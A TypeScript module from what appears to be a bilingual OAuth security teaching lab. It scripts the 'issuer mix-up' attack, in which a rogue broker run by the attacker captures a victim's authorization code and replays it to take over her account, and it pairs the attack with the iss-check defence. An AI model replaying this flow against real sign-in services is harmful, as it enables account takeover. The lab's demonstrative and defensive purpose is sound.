/** A service has two brokers: one answers, and the other gets the code. */
import { ANGELA, abbreviate, callbackOf, PROVIDER, SERVICE } from '../actors.ts';
import { type Attack, fails } from '../attack.ts';
import type { Lab } from '../lab.ts';
import { OPEN_CAST } from '../open.ts';
import { outcomeOf, trapWithOwnSignIn } from '../own-sign-in.ts';

const FALSE_BROKER = 'passe-partout';

/** The tax office is a client of the broker, and of one that Malo runs. */
async function twoBrokers(lab: Lab): Promise<void> {
  const name = { fr: 'Passe-partout', en: 'Passe-partout' };
  await lab.put('brokers', {
    ...{ id: FALSE_BROKER, name, url: `${lab.url('attacker')}/idp`, hosted: false },
    profile: 'openid',
    subjectSecret: 'demonstration-secret-of-subjects-at-passe-partout',
    sessionSecret: 'demonstration-secret-of-sessions-at-passe-partout',
  });
  const own = lab.item('serviceProviders', SERVICE);
  const clientSecret = 'demonstration-secret-of-the-tax-office-at-open';
  await lab.put('serviceProviders', {
    ...{ id: SERVICE, url: own.url, kind: own.kind, name: own.name },
    sessionSecret: own.sessionSecret,
    brokers: [lab.broker, FALSE_BROKER],
    registration: {
      ...{ clientId: SERVICE, clientSecret, tokenEndpointAuthMethod: 'client_secret_post' },
      scopes: ['openid', 'profile'],
    },
    atBroker: { [FALSE_BROKER]: { clientId: 'the-tax-office-at-passe-partout' } },
  });
}

const loginAt = (lab: Lab, broker: string) => `${lab.url(SERVICE)}/login?broker=${broker}`;

export const issuerMixUp: Attack = {
  id: 'issuer-mix-up',
  rfc: 'RFC 9207 §1, RFC 9700 §4.4',
  title: { fr: 'La confusion des tiers de confiance', en: 'The broker mix-up' },
  hook: {
    fr: 'Le service a deux tiers de confiance. L’un répond, l’autre reçoit le code.',
    en: 'The service has two brokers. One answers, the other gets the code.',
  },
  scene: {
    fr: 'Les Impôts proposent deux boutons : le tiers de confiance, et « Passe-partout », qui est à Malo. Qui choisit Passe-partout est renvoyé aussitôt vers l’autre, l’honnête. Les réponses des deux arrivent à la même adresse, et le service croit toujours parler à Passe-partout.',
    en: 'The tax office offers two buttons: the broker, and “Passe-partout”, which is Malo’s. Whoever chooses Passe-partout is sent straight on to the other, the honest one. Answers of both arrive at the same address, and the service still thinks it is talking to Passe-partout.',
  },
  victimSees: {
    fr: 'La vraie page du tiers de confiance, puis une erreur. Rien de suspect.',
    en: 'The real page of the broker, then an error. Nothing suspicious.',
  },
  attackerGains: {
    fr: 'Le code que le tiers de confiance a émis pour Angela. Glissé dans une connexion que Malo a commencée, il ouvre le compte d’Angela.',
    en: 'The code that the broker issued for Angela. Slipped into a sign-in that Malo began, it opens Angela’s account.',
  },
  cast: OPEN_CAST,
  weakness: 'service.ignores-iss',
  check:
    "if (weaknesses.includes('service.ignores-iss')) answer.searchParams.set('iss', issuerUrl);",
  defence: {
    fr: 'La réponse porte le nom de qui répond (iss). Le service le compare à l’émetteur à qui il a envoyé cette personne, avant d’apporter le code à qui que ce soit ; et une réponse sans iss, d’un émetteur qui annonce le donner, est refusée. Faute d’iss : une adresse de retour par émetteur.',
    en: 'The answer bears the name of whoever answers (iss). The service compares it with the issuer it sent this person to, before it takes the code to anyone; and an answer without iss, of an issuer that announces it, is refused. For want of iss: a return address of its own for each issuer.',
  },
  refusal: 'OAUTH_INVALID_RESPONSE',
  prepare: twoBrokers,
  async play(lab, narrate) {
    const state = await trapWithOwnSignIn(lab, {
      endpoint: `${lab.issuer}/authorize`,
      url: loginAt(lab, lab.broker),
    });
    narrate(
      'attacker',
      'Commence une connexion par le tiers de confiance et s’arrête à sa porte. Passe-partout renverra ses visiteurs là.',
      'Starts a sign-in through the broker and stops at its door. Passe-partout will send its visitors there.',
    );
    const page = await lab.victim.signIn({
      ...{ url: loginAt(lab, FALSE_BROKER), login: ANGELA.login, via: PROVIDER },
    });
    narrate(
      'victim',
      'Choisit Passe-partout, arrive chez le tiers de confiance, s’y connecte.',
      'Chooses Passe-partout, arrives at the broker, signs in there.',
    );
    const { code } = (await lab.notebook.first('code')) ?? {};
    if (!code)
      return fails(
        'Le service s’arrête : ce n’est pas Passe-partout qui a répondu. Le code ne part pas.',
        'The service stops: it was not Passe-partout that answered. The code goes nowhere.',
        page.refusal,
      );
    narrate(
      'service',
      `Apporte le code ${abbreviate(code)} à Passe-partout – donc à Malo.`,
      `Takes the code ${abbreviate(code)} to Passe-partout – that is, to Malo.`,
    );
    const query = new URLSearchParams({ code, state, iss: lab.issuer });
    const end = await lab.attacker.open(`${callbackOf(lab)}?${query}`);
    narrate('attacker', 'Termine sa connexion avec ce code.', 'Ends his sign-in with this code.');
    return outcomeOf(end);
  },
};
